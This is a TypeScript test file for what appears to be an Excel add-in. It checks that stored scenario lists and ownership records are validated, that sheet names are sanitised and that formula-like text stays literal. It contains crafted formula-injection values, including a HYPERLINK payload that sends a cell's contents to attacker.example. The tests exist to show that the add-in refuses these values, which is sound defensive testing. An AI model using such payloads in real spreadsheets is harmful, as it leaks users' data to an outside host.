import fc from "fast-check";
import { bundledCatalog } from "../../../src/domain/dataset";
import { isValidName } from "../../../src/domain/formulas/build";
import { literalText, shownText } from "../../../src/domain/cells";
import { safeSheetName } from "../../../src/domain/layout/names";
import { boundsProblem } from "../../../src/domain/model/bounds";
import { INPUT_BOUNDS, presetInputs } from "../../../src/domain/scenario/definition";
import { INPUT_ORDER, scenarioName } from "../../../src/domain/scenario/plans";
import { readOwnership, readScenarioList, refusalOf, SETTING_KEYS } from "../../../src/domain/stored";
import { MAX_SCENARIOS, SCENARIO_ID } from "../../../src/domain/stored/scenarioList";

const inputs = presetInputs(bundledCatalog, "xai");
const scenario = (id: string, overrides: object = {}) => ({ id, name: id, inputs: { ...inputs, ...overrides } });
const CRAFTED_ID = 'A1,HYPERLINK("https://attacker.example/?"&Sheet1!A1)';
const record = {
  version: 1,
  language: "zh-TW",
  writtenAt: "2026-11-29T08:00:00.000Z",
  addinVersion: "0.1.0",
  datasetVersion: "1.0.0",
  tables: { deals: "Deals", "ai-share": "AIShare", metrics: "Metrics" },
};

describe("the stored scenario list", () => {
  it("keeps what this add-in could have written, as value or as JSON text", () => {
    const list = [scenario("xAI"), scenario("OpenAI")];
    expect(readScenarioList(list)).toEqual({ definitions: list, refusal: null });
    expect(readScenarioList(JSON.stringify(list))).toEqual({ definitions: list, refusal: null });
    expect(readScenarioList(null)).toEqual({ definitions: [], refusal: null });
  });

  it("ignores a crafted id, and counts it, keeping the rest", () => {
    const read = readScenarioList([scenario(CRAFTED_ID), scenario("xAI")]);
    expect(read.definitions.map((d) => d.id)).toEqual(["xAI"]);
    expect(read.refusal).toEqual({ record: "scenarios", reason: "malformed", ignored: 1 });
  });

  it.each([
    ["NaN cash", scenario("a", { cash: NaN })],
    ["Infinity burn", scenario("a", { monthlyBurn: Infinity })],
    ["negative cash", scenario("a", { cash: -1 })],
    ["zero burn", scenario("a", { monthlyBurn: 0 })],
    ["a fractional start year", scenario("a", { startYear: 2025.5 })],
    ["cash as text", scenario("a", { cash: "20000000000" })],
    ["a missing input", { id: "a", name: "a", inputs: { cash: 1 } }],
    ["an empty name", { ...scenario("a"), name: "  " }],
    ["a name of 101 characters", { ...scenario("a"), name: "n".repeat(101) }],
    ["an id of 21 characters", scenario("a".repeat(21))],
    ["an id with a dot", scenario("a.b")],
  ])("ignores an entry with %s", (_, entry) => {
    expect(readScenarioList([entry, scenario("ok")])).toEqual({
      definitions: [scenario("ok")],
      refusal: { record: "scenarios", reason: "malformed", ignored: 1 },
    });
  });

  it("accepts a huge but finite cash, which the functions answer themselves", () => {
    expect(readScenarioList([scenario("rich", { cash: 1e308 })]).refusal).toBeNull();
  });

  it("ignores a second entry with the same id in any case: it would name the same sheet", () => {
    expect(readScenarioList([scenario("xAI"), scenario("XAI")]).definitions.map((d) => d.id)).toEqual(["xAI"]);
  });

  it("refuses a list too long or too large whole, and anything that is not a list", () => {
    const many = Array.from({ length: MAX_SCENARIOS + 1 }, (_, i) => scenario(`s${i}`));
    expect(readScenarioList(many)).toEqual({
      definitions: [],
      refusal: { record: "scenarios", reason: "tooLarge", ignored: 51 },
    });
    expect(readScenarioList([{ ...scenario("a"), name: "x".repeat(70000) }]).refusal?.reason).toBe("tooLarge");
    expect(readScenarioList({ xAI: scenario("xAI") }).refusal).toEqual({ record: "scenarios", reason: "malformed", ignored: 1 });
    expect(readScenarioList("not json").refusal?.reason).toBe("malformed");
  });

  it("never throws on any JSON, and keeps only entries that are safe to build sheets and names from", () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.jsonValue(),
          fc.array(fc.jsonValue()),
          fc.array(fc.record({ id: fc.string(), name: fc.string(), inputs: fc.jsonValue() })),
        ),
        (stored) => {
          const { definitions, refusal } = readScenarioList(stored);
          for (const d of definitions) {
            expect(d.id).toMatch(SCENARIO_ID);
            expect(isValidName(scenarioName(d.id, "RevenueGrowth"))).toBe(true);
            for (const key of INPUT_ORDER) expect(boundsProblem(d.inputs[key], INPUT_BOUNDS[key])).toBeNull();
          }
          if (Array.isArray(stored) && definitions.length < stored.length) expect(refusal).not.toBeNull();
        },
      ),
      { numRuns: 3000 },
    );
  });
});

describe("the stored ownership record", () => {
  it("keeps a record this add-in wrote", () => {
    expect(readOwnership(record)).toEqual({ record, refusal: null });
    expect(readOwnership(JSON.stringify(record)).record).toEqual(record);
  });

  it.each([
    ["a newer version", { ...record, version: 2 }, "unknownVersion"],
    ["a table name with a quote", { ...record, tables: { deals: 'Deals"),HYPERLINK("x' } }, "malformed"],
    ["a table name with a space", { ...record, tables: { deals: "My Deals" } }, "malformed"],
    ["an unknown language", { ...record, language: "fr" }, "malformed"],
    ["a time that is not one", { ...record, writtenAt: "yesterday" }, "malformed"],
    ["no tables", { ...record, tables: undefined }, "malformed"],
    ["a list", [record], "malformed"],
    ["a field larger than any record it writes", { ...record, addinVersion: "9".repeat(4_200_000) }, "tooLarge"],
  ])("refuses %s", (_, stored, reason) => {
    expect(readOwnership(stored)).toEqual({ record: null, refusal: { record: "ownership", reason, ignored: 1 } });
  });

  it("checks each setting by its key, and only the add-in's own", () => {
    expect(refusalOf(SETTING_KEYS.ownership, { version: 7 })?.reason).toBe("unknownVersion");
    expect(refusalOf(SETTING_KEYS.scenarios, [scenario(CRAFTED_ID)])?.ignored).toBe(1);
    expect(refusalOf("SomeoneElse.setting", { anything: true })).toBeNull();
  });

  it("never throws on any JSON", () => {
    fc.assert(
      fc.property(fc.jsonValue(), (stored) => {
        const { record: read, refusal } = readOwnership(stored);
        expect(read === null || refusal === null).toBe(true);
      }),
      { numRuns: 3000 },
    );
  });
});

describe("text from outside the add-in, on its way into a sheet", () => {
  it("makes any text a sheet name Excel accepts", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 60 }), (text) => {
        const name = safeSheetName(text);
        expect(name.length).toBeGreaterThan(0);
        expect([...name].length).toBeLessThanOrEqual(31);
        expect(name).not.toMatch(/[\\/?*:[\]]|^'|'$/);
        expect([...name].every((ch) => ch >= " ")).toBe(true);
      }),
      { numRuns: 3000 },
    );
    expect(safeSheetName(`Scenario It's "Q1"! [draft]`)).toBe(`Scenario It's "Q1"!  draft`);
    expect(safeSheetName("'quoted'")).toBe("quoted");
    expect(safeSheetName("History")).toBe("Sheet");
  });

  it("keeps a name that looks like a formula as text, and shows it as typed in a file", () => {
    for (const name of ["=HYPERLINK(1)", "+1", "-10% burn", "@x", "'quoted"]) {
      expect(literalText(name)).toBe(`'${name}`);
      expect(shownText(literalText(name))).toBe(name);
    }
    expect(literalText("xAI")).toBe("xAI");
  });
});
